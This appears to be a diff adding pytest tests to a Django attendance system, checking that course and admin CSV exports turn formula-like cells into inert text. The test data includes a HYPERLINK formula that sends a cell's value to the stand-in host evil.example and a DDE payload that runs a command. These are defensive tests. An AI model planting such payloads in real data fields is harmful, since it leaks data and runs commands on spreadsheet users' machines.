@@ -1,6 +1,7 @@
 """Who gets in and what they can take away: login limits (site and admin, behind a load
 balancer), an import that neither follows links nor merges people by name, CSV files a
 spreadsheet does not run, and API answers that say who may read what."""
+import csv
 import io
 import os
 import subprocess
@@ -11,13 +12,16 @@ from pathlib import Path
 import pytest
 from django.core.management import call_command
 from django.test import RequestFactory, override_settings
+from django.urls import reverse
 
 from attendance_site.ratelimit import client_address
 from recognition.enrolment import add_enrolment_photo
 from recognition.models import FacePhoto
+from students.csv_files import inert_cell
 from students.export import student_export_zip
-from students.models import Student
+from students.models import AttendanceRecord, Student
 from tests.factories import make_course, make_student, make_user
+from tests.web.school import school  # noqa: F401 - a fixture
 
 pytestmark = pytest.mark.django_db
 
@@ -297,3 +301,39 @@ def test_the_shared_dataset_imports_with_consent_as_30_students_and_189_photos(f
     call_command("import_students", str(faces_dataset / "identities"), course="FACES", consent="signed forms")
     assert Student.objects.count() == 30 and FacePhoto.objects.count() == 189
     assert not Student.objects.filter(consent_recorded_at__isnull=True).exists()
+
+
+# ---- CSV files a spreadsheet opens ----
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_begins_like_a_formula_is_made_text(start):
+    assert inert_cell(f"{start}1+2") == f"'{start}1+2"
+
+
+def test_plain_cells_and_numbers_are_left_alone():
+    assert [inert_cell(v) for v in ["Ada Lovelace", "S1", 87.5, None]] == ["Ada Lovelace", "S1", 87.5, None]
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A3,"click")'
+
+
+def csv_rows(response):
+    return list(csv.reader(io.StringIO(response.content.decode())))
+
+
+def test_the_course_csv_writes_a_formula_name_as_text(client, school):
+    Student.objects.filter(pk=school.bob.pk).update(full_name=EVIL_NAME, student_number="+S2")
+    client.force_login(school.teacher)
+    rows = csv_rows(client.get(reverse("course_csv", args=[school.course.pk])))
+    assert ["'+S2", "'" + EVIL_NAME] in [row[:2] for row in rows]
+
+
+def test_the_admins_attendance_csv_writes_a_formula_name_as_text(client, school):
+    Student.objects.filter(pk=school.bob.pk).update(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
+    record = AttendanceRecord.objects.create(session=school.session, student=school.bob, status="present", source="manual")
+    client.force_login(school.admin)
+    response = client.post(
+        reverse("admin:students_attendancerecord_changelist"), {"action": "export_csv", "_selected_action": [record.pk]}
+    )
+    (header, row) = csv_rows(response)
+    assert row[header.index("student")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
